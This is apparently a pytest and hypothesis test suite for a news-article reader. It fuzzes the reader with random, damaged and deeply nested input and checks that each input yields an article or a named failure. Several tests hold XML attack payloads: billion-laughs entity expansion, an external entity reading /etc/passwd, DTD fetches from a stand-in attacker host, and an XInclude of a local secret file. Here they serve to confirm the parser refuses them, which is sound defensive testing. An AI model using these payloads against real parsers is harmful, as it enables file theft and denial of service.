"""Whatever the bytes, reading ends with articles and failures, never with an exception, a hang or a leak."""

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sanudo.articles import Article, ReadFailure, read_articles
from sanudo.articles.furniture import furniture_spans
from sanudo.articles.markup import parse_xml
from sanudo.articles.reading import FORMATS

FILES = sorted((Path(__file__).parents[1] / "data" / "articles" / "formats").iterdir())
BUDGET = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
OPENINGS = [
    *(b"", b"\xff\xfe", b"PAR1", b"PK\x03\x04", b"\x1f\x8b\x08", b"BZh9", b"\x28\xb5\x2f\xfd", b"WARC/1.0\r\n"),
    *(b"<?xml version='1.0'?><rss>", b"<html><p>", b"<nitf>", b"<newsItem>", b"<NewsML><NewsItem>", b"\x01\x02"),
    *(b'{"text": ', b"[", b'{"uri": 1, "bodies": ', b'{"@type": "Article", "articleBody": ', b"text,id\n"),
    b"From: a\nSubject: b\n\n",
]


def check(path: Path, fmt: str | None = None) -> None:
    for item in read_articles([path], fmt=fmt, language="en"):
        assert isinstance(item, Article | ReadFailure)
        f"{item} {item.id if isinstance(item, Article) else item.article}".encode()
        if isinstance(item, Article):
            item.text.encode()
            item.id.encode()
            assert item.headline_end <= len(item.text)
            assert all(0 <= span.start < span.end <= len(item.text) for span in furniture_spans(item.text))


@BUDGET
@given(st.sampled_from(OPENINGS), st.binary(max_size=2_000), st.sampled_from([None, *FORMATS]))
def test_any_bytes_are_read_or_named(tmp_path: Path, opening: bytes, data: bytes, fmt: str | None) -> None:
    path = tmp_path / "any"
    path.write_bytes(opening + data)
    check(path, fmt)


@BUDGET
@given(st.sampled_from(FILES), st.data())
def test_damaged_files_are_read_or_named(tmp_path: Path, file: Path, data: st.DataObject) -> None:
    content = bytearray(file.read_bytes())
    for _ in range(data.draw(st.integers(1, 6))):
        start = data.draw(st.integers(0, len(content)))
        end = data.draw(st.integers(start, min(start + 40, len(content))))
        content[start:end] = data.draw(st.binary(max_size=12))
    path = tmp_path / "damaged"
    path.write_bytes(content)
    check(path)


KEYS = (
    *("text", "title", "date", "id", "uri", "type", "bodies", "headlines", "value", "role", "version", "pubstatus"),
    *("embargoed", "@type", "@graph", "headline", "articleBody", "author", "publisher", "items", "versioncreated"),
    *("body_html", "language", "name"),
)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | st.just("\ud800"),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(KEYS),
            inner | st.sampled_from(["NewsArticle", "text", "canceled", "2024-01-15", "<p>A</p>"]),
            max_size=6,
        )
    ),
    max_leaves=12,
)


@BUDGET
@given(JSON)
def test_any_json_is_read_or_named(tmp_path: Path, value: object) -> None:
    path = tmp_path / "any.json"
    path.write_text(json.dumps(value), "utf-8")
    check(path)


BILLION = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE nitf [<!ENTITY e0 "ha">{BILLION}]>',
        '<!DOCTYPE nitf [<!ENTITY e9 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE nitf [<!ENTITY % p SYSTEM "http://attack.example/x.dtd"> %p;]>',
    ],
)
def test_entities_are_refused(tmp_path: Path, doctype: str) -> None:
    path = tmp_path / "a.xml"
    path.write_text(f"<?xml version='1.0'?>{doctype}<nitf><body><body.content><p>&e9;</p></body.content></body></nitf>")
    (failure,) = read_articles([path])
    assert isinstance(failure, ReadFailure)
    assert "entities" in failure.message


def test_nothing_is_included_or_fetched(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("the secret")
    (tmp_path / "a.xml").write_text(
        "<?xml version='1.0'?><!DOCTYPE nitf SYSTEM 'http://attack.example/x.dtd'>"
        "<nitf xmlns:xi='http://www.w3.org/2001/XInclude'><body><body.content><p>The envoys met.</p>"
        f"<xi:include href='{tmp_path}/secret' parse='text'/></body.content></body></nitf>"
    )
    (article,) = read_articles([tmp_path / "a.xml"])
    assert isinstance(article, Article)
    assert article.text == "The envoys met."


@pytest.mark.parametrize("opening", [b"<rss>", b"<html>", b"<nitf>"])
def test_depth_has_an_end(tmp_path: Path, opening: bytes) -> None:
    (tmp_path / "deep").write_bytes(opening + b"<div>" * 200_000 + b"The envoys met in Oslo on Monday.")
    check(tmp_path / "deep")


def test_deep_json_is_named(tmp_path: Path) -> None:
    (tmp_path / "deep").write_bytes(b'{"a":' * 100_000)
    (failure,) = read_articles([tmp_path / "deep"])
    assert isinstance(failure, ReadFailure)


def test_a_page_of_too_many_elements_is_named(tmp_path: Path) -> None:
    (tmp_path / "wide").write_bytes(b"<html><body>" + b"<p>x" * 50_000)
    (failure,) = read_articles([tmp_path / "wide"])
    assert isinstance(failure, ReadFailure)
    assert "elements" in failure.message


def test_a_tag_of_too_many_attributes_is_named(tmp_path: Path) -> None:
    (tmp_path / "wide").write_text("<html><body><p " + " ".join(f"a{n}='x'" for n in range(100_000)) + ">x</p>")
    (failure,) = read_articles([tmp_path / "wide"])
    assert isinstance(failure, ReadFailure)
    assert "attributes" in failure.message


def test_markup_that_is_not_well_formed_is_mended() -> None:
    root = parse_xml(b"<rss><item><title>Caf&eacute; & more</title><b>\x01</item></rss>")
    assert "Café" in "".join(root.itertext())
